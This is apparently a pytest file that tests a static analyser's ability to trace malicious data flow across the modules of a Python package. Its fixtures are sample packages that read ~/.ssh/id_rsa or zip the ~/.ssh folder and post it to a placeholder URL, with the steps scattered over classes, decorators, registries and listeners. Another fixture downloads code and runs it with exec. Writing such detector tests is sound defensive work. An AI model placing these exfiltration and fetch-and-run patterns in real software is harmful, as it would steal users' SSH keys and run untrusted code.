"""What is spread over the short modules of one package is read as if it stood in one."""

from __future__ import annotations

import pytest

from bonded.facts import choosing
from bonded.facts.model import Call
from bonded.values.finding import When
from tests.facts.programs import wheel_of

SEND = "import requests\nURL = 'https://example.invalid/in'\n"
KEY = "import os\ndef key():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
SENDER = f"{SEND}class Sender:\n    def send(self, data):\n        requests.post(URL, data=data)\n"


def found(name: str, label: str, when: When = When.IMPORT, **members: str) -> list[tuple[str, Call]]:
    """Calls of `name` with this label that run at `when`, each with the path of its module. Keys are modules of the package."""
    facts = wheel_of({f"sample/{path}.py": text for path, text in members.items()})
    return [
        (module.path, call)
        for module in facts.modules
        for call in module.calls
        if call.name == name and call.when is when and any(label in one.labels for one in call.arguments)
    ]


SPREAD = {
    "a base class": {
        "__init__": "from .grab import Grabber\nGrabber().run()",
        "base": SENDER,
        "grab": f"{KEY}from . import base\nclass Grabber(base.Sender):\n    def run(self):\n        self.send(key())",
    },
    "a base class that calls its child": {
        "__init__": "from .grab import Grabber\nGrabber()",
        "base": f"{SEND}class Base:\n    def __init__(self):\n        requests.post(URL, data=self.read())",
        "grab": f"{KEY}from .base import Base\nclass Grabber(Base):\n    def read(self):\n        return key()",
    },
    "super": {
        "__init__": "from .grab import Grabber\nGrabber().send(0)",
        "base": SENDER,
        "grab": f"{KEY}from .base import Sender\nclass Grabber(Sender):\n    def send(self, x):\n        super().send(key())",
    },
    "two classes beside each other": {
        "__init__": "from .app import App\nApp().send(App().take())",
        "base": SENDER,
        "take": f"{KEY}class Taker:\n    def take(self):\n        return key()",
        "app": "from .take import Taker\nfrom .base import Sender\nclass App(Taker, Sender):\n    pass",
    },
    "a new object": {
        "__init__": f"{KEY}from .base import Sender\nSender().send(key())",
        "base": SENDER,
    },
    "an object that an object keeps": {
        "__init__": "from .agent import Agent\nAgent().work()",
        "base": SENDER,
        "agent": f"{KEY}from .base import Sender\nclass Agent:\n    def __init__(self):\n        self.client = Sender()\n"
        "    def work(self):\n        self.client.send(key())",
    },
    "an object of a module": {
        "__init__": f"{KEY}from .core import session\nsession.send(key())",
        "base": SENDER,
        "core": "from .base import Sender\nsession = Sender()",
    },
    "a function that makes an object": {
        "__init__": f"{KEY}from .core import make\nmake().send(key())",
        "base": SENDER,
        "core": "from .base import Sender\n_made = None\ndef make():\n    global _made\n    _made = _made or Sender()\n    return _made",
    },
    "a class method that makes the object": {
        "__init__": f"{KEY}from .base import Client\nClient.default().send(key())",
        "base": f"{SENDER}class Client:\n    def __init__(self, to):\n        self.to = to\n    @classmethod\n"
        "    def default(cls):\n        return cls(Sender())\n    def send(self, data):\n        self.to.send(data)",
    },
    "three modules and a list of functions": {
        "__init__": "from .table import STEPS\nx = None\nfor step in STEPS:\n    x = step(x)",
        "table": "from .take import take\nfrom .give import give\nSTEPS = (take, give)",
        "take": f"{KEY}def take(x):\n    return key()",
        "give": f"{SEND}def give(x):\n    requests.post(URL, data=x)",
    },
    "a function that another one calls back": {
        "__init__": f"{SEND}from .take import scan\ndef push(x):\n    requests.post(URL, data=x)\nscan(push)",
        "take": f"{KEY}def scan(back):\n    back(key())",
    },
    "a variable of a third module": {
        "__init__": "from . import shared, take, give\ngive.give()",
        "shared": "DATA = None",
        "take": f"{KEY}from . import shared\nshared.DATA = key()",
        "give": f"{SEND}from . import shared\ndef give():\n    requests.post(URL, data=shared.DATA)",
    },
    "names that are handed on by stars": {
        "__init__": "from .inner import *\ngive(key())",
        "inner/__init__": "from .take import *\nfrom .give import *",
        "inner/take": f"__all__ = ['key']\n{KEY}",
        "inner/give": f"{SEND}def give(x):\n    requests.post(URL, data=x)",
    },
    "a module that makes its names": {
        "__init__": "from . import lazy\nlazy.client",
        "lazy": "def __getattr__(name):\n    from .give import give\n    return give()",
        "give": f"{SEND}{KEY}def give():\n    requests.post(URL, data=key())",
    },
    "an import by name over a list": {
        "__init__": "import importlib\nfor n in ('one', 'two'):\n    importlib.import_module(f'.{n}', __package__).go()",
        "one": "def go():\n    pass",
        "two": f"{SEND}{KEY}def go():\n    requests.post(URL, data=key())",
    },
    "a package above": {
        "__init__": "from .a.b import c as d\nd.run()",
        "a/__init__": "",
        "a/b": "class c:\n    @staticmethod\n    def run():\n        from ..util import key\n        from .. import util\n        util.give(key())",
        "util": f"{SEND}{KEY}def give(x):\n    requests.post(URL, data=x)",
    },
    "a registry that decorators fill": {
        "__init__": "from .registry import run_all\nfrom . import steps\nrun_all()",
        "registry": "STEPS = []\ndef step(f):\n    STEPS.append(f)\n    return f\ndef run_all():\n    for f in STEPS:\n        f()",
        "steps": f"{SEND}{KEY}from .registry import step\n@step\ndef give():\n    requests.post(URL, data=key())",
    },
    "a table that decorators fill": {
        "__init__": "from .registry import STEPS\nfrom . import steps\nSTEPS['go']()",
        "registry": "STEPS = {}\ndef step(name):\n    def keep(f):\n        STEPS[name] = f\n        return f\n    return keep",
        "steps": f"{SEND}{KEY}from .registry import step\n@step('go')\ndef give():\n    requests.post(URL, data=key())",
    },
    "listeners of an object": {
        "__init__": "from .bus import bus\nfrom . import ears\nbus.emit('go')",
        "bus": "class Bus:\n    def __init__(self):\n        self.ears = {}\n    def on(self, name):\n        def keep(f):\n"
        "            self.ears.setdefault(name, []).append(f)\n            return f\n        return keep\n"
        "    def emit(self, name):\n        for f in self.ears.get(name, []):\n            f()\nbus = Bus()",
        "ears": f"{SEND}{KEY}from .bus import bus\n@bus.on('go')\ndef give():\n    requests.post(URL, data=key())",
    },
    "classes that are asked for": {
        "__init__": "from .base import Base\nfrom . import child\nfor one in Base.__subclasses__():\n    one().run()",
        "base": "class Base:\n    pass",
        "child": f"{SEND}{KEY}from .base import Base\nclass Child(Base):\n    def run(self):\n        requests.post(URL, data=key())",
    },
    "what a class lists": {
        "__init__": "from .jobs import job\njob()",
        "settings": "class Settings:\n    FILES = ['~/.ssh/id_rsa']\nsettings = Settings()",
        "jobs": f"{SEND}import os\nfrom .settings import settings\ndef job():\n    for f in settings.FILES:\n"
        "        requests.post(URL, data=open(os.path.expanduser(f)).read())",
    },
    "copies of files in an archive": {
        "__init__": "from .stage import stage\nfrom .give import give\ngive(stage())",
        "stage": "import os, shutil, tempfile\ndef stage():\n    d = tempfile.mkdtemp()\n"
        "    shutil.copytree(os.path.expanduser('~/.ssh'), os.path.join(d, 's'))\n"
        "    return shutil.make_archive(os.path.join(d, 'o'), 'zip', d)",
        "give": f"{SEND}def give(p):\n    requests.post(URL, data=open(p, 'rb'))",
    },
}


@pytest.mark.parametrize("name", SPREAD)
def test_what_is_spread_over_modules_is_followed(name: str) -> None:
    assert found("requests.post", "credentials", **SPREAD[name])


def test_what_another_module_does_is_told_of_it() -> None:
    [(path, call)] = found("requests.post", "credentials", **SPREAD["a new object"])
    assert (path, call.scope, call.line) == ("sample/base.py", "Sender.send", 5)


FETCH = "import urllib.request\nclass Net:\n    def get(self):\n        return urllib.request.urlopen('https://example.invalid/p').read()\n"
RUN = {
    "__init__": "from .engine import Engine\nEngine().step()",
    "net": FETCH,
    "engine": "from .net import Net\nclass Engine:\n    def __init__(self):\n        self.net = Net()\n"
    "    def step(self):\n        exec(self.net.get())",
}


def test_what_one_object_fetches_and_another_one_runs_is_followed() -> None:
    assert found("builtins.exec", "downloaded", **RUN)


def test_a_method_that_nothing_calls_waits_for_somebody() -> None:
    members = RUN | {"__init__": "from .engine import Engine"}
    assert not found("builtins.exec", "downloaded", **members)
    assert found("builtins.exec", "downloaded", When.CALL, **members)


@pytest.mark.parametrize(
    "members",
    [
        SPREAD["a registry that decorators fill"] | {"__init__": "from . import steps"},
        SPREAD["listeners of an object"] | {"__init__": "from .bus import bus\nfrom . import ears\nbus.emit('other')"},
        SPREAD["classes that are asked for"] | {"__init__": "from .base import Base\nfrom . import child"},
        SPREAD["a function that another one calls back"]
        | {"__init__": "from .take import scan\ndef show(x):\n    return len(x)\nscan(show)"},
    ],
    ids=[
        "a registry that nobody runs",
        "another event",
        "classes that nobody asks for",
        "another function is called back",
    ],
)
def test_what_is_only_at_hand_does_not_run(members: dict[str, str]) -> None:
    assert not found("requests.post", "credentials", **members)


def test_two_classes_of_one_name_are_told_apart() -> None:
    members = {
        "__init__": f"{KEY}from .here import Client\nfrom . import there\nClient().send(key())",
        "here": "class Client:\n    def send(self, data):\n        return len(data)",
        "there": SENDER.replace("Sender", "Client"),
    }
    assert not found("requests.post", "credentials", **members)


def test_modules_that_import_each_other_are_read() -> None:
    members = {
        "__init__": "from .one import go\ngo()",
        "one": f"{SEND}from . import two\ndef go():\n    requests.post(URL, data=two.give())",
        "two": f"{KEY}from . import one\ndef give():\n    return key()",
    }
    assert found("requests.post", "credentials", **members)


def test_a_copy_of_a_library_hides_no_use_of_it() -> None:
    facts = wheel_of(
        {
            "sample/__init__.py": f"{KEY}import requests\nrequests.post('https://example.invalid', data=key())",
            "requests.py": "def post(url, data):\n    return None",
        }
    )
    assert [call.when for module in facts.modules for call in module.calls if call.name == "requests.post"] == [
        When.IMPORT
    ]


@pytest.mark.parametrize(("size", "united"), [(1_000, True), (60_000, False)])
def test_a_large_package_is_read_module_by_module(size: int, united: bool) -> None:
    """There, names are followed and values are not: reading must stay quick, and what was read before be of use again."""
    members = SPREAD["a new object"] | {"words": "WORDS = '" + "a " * (size // 2) + "'"}
    assert bool(found("requests.post", "credentials", **members)) is united


def test_a_package_without_anything_of_interest_is_not_read(monkeypatch: pytest.MonkeyPatch) -> None:
    united: list[bool] = []
    decide = choosing.Choice._are_one
    monkeypatch.setattr(choosing.Choice, "_are_one", lambda *given: united.append(decide(*given)) or united[-1])
    wheel_of({"sample/__init__.py": "from .one import f", "sample/one.py": "def f(x):\n    return x + 1"})
    assert united == [False]
